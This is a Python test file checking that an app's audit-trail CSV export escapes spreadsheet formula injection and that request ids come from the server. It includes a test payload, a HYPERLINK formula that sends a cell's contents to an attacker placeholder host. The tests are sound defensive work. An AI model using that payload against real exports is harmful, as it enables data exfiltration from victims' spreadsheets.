"""The audit trail's request ids are the server's own, and its CSV export never hands a
spreadsheet a formula (OWASP CSV injection), whatever a caller sent or an admin typed."""

import csv
import io
import re

import pytest

from kapflow.accounts.models import Organisation, User
from kapflow.audit.models import AuditEvent
from kapflow.audit.views import csv_safe
from tests.conftest import sign_in

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _export(client, **params) -> list[list[str]]:
    response = client.get("/audit/export.csv", params)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_safe_prefixes_formula_starts_with_a_quote(value, expected):
    assert csv_safe(value) == expected


def test_request_ids_are_made_by_the_server_and_the_callers_is_kept_apart(client, world):
    sign_in(client, world.client_member.user)
    response = client.get("/", headers={"X-Request-Id": FORMULA})
    assert response.status_code == 200
    assert re.fullmatch(r"[0-9a-f]{32}", response["X-Request-Id"])
    row = AuditEvent.objects.filter(action="portal.record_view").latest("id")
    assert row.request_id == response["X-Request-Id"]
    assert row.client_request_id == FORMULA


def test_a_plain_caller_id_is_not_taken_as_the_request_id(client, world):
    sign_in(client, world.client_member.user)
    response = client.get("/", headers={"X-Request-Id": "abc123"})
    assert response["X-Request-Id"] != "abc123"
    row = AuditEvent.objects.filter(action="portal.record_view").latest("id")
    assert (row.request_id, row.client_request_id) == (response["X-Request-Id"], "abc123")


def test_the_callers_id_is_length_limited_and_printable(client, world):
    sign_in(client, world.client_member.user)
    client.get("/", headers={"X-Request-Id": "a\x01b\x7f" + "x" * 500 + "é"})
    row = AuditEvent.objects.filter(action="portal.record_view").latest("id")
    assert row.client_request_id == "ab" + "x" * 62


def test_no_exported_cell_starts_a_formula(client, world):
    Organisation.objects.filter(pk=world.practice.pk).update(name="@SUM(1+1) Practice")
    User.objects.filter(pk=world.therapist.user_id).update(email="=1+2@example.test")
    sign_in(client, world.therapist.user)
    client.get(f"/clients/{world.client.pk}/", headers={"X-Request-Id": FORMULA})
    sign_in(client, world.client_member.user)
    client.get("/", headers={"X-Request-Id": "-2+3"})
    sign_in(client, world.admin.user)
    rows = _export(client)
    header, data = rows[0], rows[1:]
    assert "client_request_id" in header
    assert data
    for row in data:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    by_column = [dict(zip(header, row, strict=True)) for row in data]
    assert "'" + FORMULA in {r["client_request_id"] for r in by_column}
    assert "'-2+3" in {r["client_request_id"] for r in by_column}
    assert "'=1+2@example.test" in {r["actor_email"] for r in by_column}
    assert "'@SUM(1+1) Practice" in {r["organisation"] for r in by_column}
    # The test client's force_login is a sign-in outside any request: it has no request id.
    in_requests = [r for r in by_column if r["action"] != "auth.sign_in"]
    assert all(re.fullmatch(r"[0-9a-f]{32}", r["request_id"]) for r in in_requests)
